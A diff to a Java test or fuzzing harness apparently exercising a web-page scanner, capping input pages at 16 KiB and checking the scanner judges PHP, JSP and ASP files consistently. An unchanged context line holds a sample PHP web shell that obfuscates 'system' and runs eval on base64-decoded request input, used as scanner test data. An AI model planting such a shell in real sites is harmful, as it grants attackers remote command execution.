@@ -18,6 +18,7 @@ import java.nio.charset.StandardCharsets;
 import java.time.Instant;
 import java.time.ZoneOffset;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 import java.util.Objects;
@@ -27,6 +28,7 @@ import java.util.Objects;
 final class UserTargets {
     private static final String DOCKER = "/home/ann/.local/share/docker/";
     private static final String PODMAN = "/home/ann/.local/share/containers/storage/";
+    private static final int LONGEST_PAGE = 16 << 10;
     private static final byte[] PASSWD =
             "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\n"
                     .getBytes(StandardCharsets.US_ASCII);
@@ -100,7 +102,7 @@ final class UserTargets {
                                     "Jan 02 03:04:05 Installed: nano-2.3.1-10.el7.x86_64\n")),
                     Target.of(
                             "web-pages",
-                            "as PHP, JSP and ASP: the same twice",
+                            "as PHP, JSP and ASP, 16 KiB of each: the same twice",
                             UserTargets::pages,
                             "<?php $a=str_replace('x','','sysxtem'); @$a($_POST['c']); function f($b)"
                                     + "{ return base64_decode($b); } eval(f($_REQUEST[\"d\"])); ?>",
@@ -236,18 +238,18 @@ final class UserTargets {
         return count;
     }
 
+    /// Only so much: what a page may cost is bounded by steps, which a long one of nothing but open
+    /// brackets and assignments takes all.
     private static long pages(byte[] bytes) {
+        byte[] page = Arrays.copyOf(bytes, Math.min(bytes.length, LONGEST_PAGE));
         var host = new BytesHost();
-        for (String extension : List.of("php", "jsp", "asp", "png")) {
-            host.with("/srv/x." + extension, bytes);
-        }
+        var extensions = List.of("php", "jsp", "asp");
+        extensions.forEach(extension -> host.with("/srv/x." + extension, page));
         var pages = WebPages.of(host);
-        for (String extension : List.of("php", "jsp", "asp", "png")) {
+        for (String extension : extensions) {
             var level = pages.judge("/srv/x." + extension);
-            check(
-                    Objects.equals(level, pages.judge("/srv/x." + extension)),
-                    "not the same twice",
-                    extension);
+            boolean same = Objects.equals(level, pages.judge("/srv/x." + extension));
+            check(same, "not the same twice", extension);
         }
         return 0;
     }
